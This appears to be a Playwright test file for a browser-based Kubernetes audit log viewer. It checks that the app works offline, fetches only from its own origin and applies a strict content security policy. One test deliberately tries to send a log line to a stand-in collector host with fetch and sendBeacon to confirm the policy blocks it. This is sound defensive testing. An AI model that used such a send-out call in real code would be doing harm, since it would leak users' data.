// e2e: nothing leaves the tab. The fixture of audit-page.ts already fails any test on a foreign request; these tests
// say it out loud: with the server gone, under a policy that reaches the workers too, and against an attempt to leave.

import { preview } from "vite";
import { expect, test } from "./audit-page.ts";
import { root } from "./dependencies.mjs";
import { poolSize } from "../src/worker/pool-size.ts";
import { anew, EVENTS, toLog } from "./events.ts";
import { watchLaterParts } from "./later-parts.ts";

test.describe("with the server gone", () => {
  const port = 4720;
  test.use({ baseURL: `http://127.0.0.1:${port}/` });

  // Playwright's setOffline is not enough: it does not reach a worker that a worker starts.
  test("opens, filters and exports logs once the page is loaded", async ({ audit, page }) => {
    let programs = 0;
    const whenAllIsThere = watchLaterParts(page);
    page.context().on("requestfinished", (request) => {
      if (request.url().includes("/scan.worker")) programs++;
    });
    const server = await preview({ root, preview: { host: "127.0.0.1", port, strictPort: true } });
    try {
      await audit.visit();
      // On a busy machine a network that is idle may yet be asked for the programs of workers: one for each core, two at least.
      const cores = await page.evaluate(() => navigator.hardwareConcurrency);
      await expect.poll(() => programs).toBe(poolSize(cores));
      await whenAllIsThere();
      await page.waitForLoadState("networkidle");
    } finally {
      await server.close();
    }
    await audit.drop({ name: "first.log", text: toLog(EVENTS) });
    await audit.openLog({ name: "second.log", text: toLog(anew(EVENTS)) });
    expect(await audit.ledger()).toMatchObject({ records: EVENTS.length * 2, rejected: 0 });
    await audit.filter("user:mallory");
    await expect(audit.statusLine).toContainText(`of ${EVENTS.length * 2} events`);
    await audit.showTab("Events");
    expect((await audit.exportCsv()).trimEnd().split("\r\n")).toHaveLength(1 + 8);
    // And what was fetched apart.
    expect(await audit.export("Parquet")).toMatch(/^PAR1/);
    expect(await audit.export("Report as Markdown")).toContain("# Kubernetes audit report");
    await page.keyboard.press("Control+k");
    await expect(page.getByRole("combobox", { name: "Find a command" })).toBeVisible();
  });
});

test("asks its own origin for programs, styles and pictures, and for nothing else", async ({
  audit,
  page,
}) => {
  const asked: { url: string; method: string; body: string | null }[] = [];
  page.context().on("request", (request) => {
    asked.push({ url: request.url(), method: request.method(), body: request.postData() });
  });
  await audit.visit();
  await audit.openLog({ name: "audit.log", text: toLog(EVENTS) });
  expect(asked.length).toBeGreaterThan(0);
  for (const { url, method, body } of asked) {
    // Nothing of a log can leave in a request that has no body and whose address is a file of the build.
    expect({ url, method, body }).toMatchObject({ method: "GET", body: null });
    expect(new URL(url).search).toBe("");
  }
});

test("gives every program, the workers' too, a policy that allows only this origin", async ({
  audit,
  page,
}) => {
  const policies = new Map<string, string>();
  page.context().on("response", (response) => {
    const { pathname } = new URL(response.url());
    if (pathname.endsWith(".js")) {
      policies.set(pathname, response.headers()["content-security-policy"] ?? "");
    }
  });
  await audit.visit();
  await audit.openLog({ name: "audit.log", text: toLog(EVENTS) });
  expect([...policies.keys()].filter((name) => name.includes("worker"))).not.toEqual([]);
  const inPage = await page
    .locator("meta[http-equiv=Content-Security-Policy]")
    .getAttribute("content");
  for (const policy of [...policies.values(), inPage ?? ""]) {
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).not.toMatch(/https?:|\*|'unsafe-eval'/);
  }
});

test("stops a script that tries to send something elsewhere", async ({ page, baseURL }) => {
  // Without the fixture: here the console is meant to complain.
  await page.goto(baseURL ?? "");
  const outcome = await page.evaluate(async () => {
    try {
      await fetch("https://example.invalid/collect", { method: "POST", body: "a log line" });
      return "sent";
    } catch {
      return "stopped";
    }
  });
  const violations = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => {
          resolve(event.effectiveDirective);
        });
        navigator.sendBeacon("https://example.invalid/collect", "a log line");
      }),
  );
  expect({ outcome, violations }).toEqual({ outcome: "stopped", violations: "connect-src" });
});
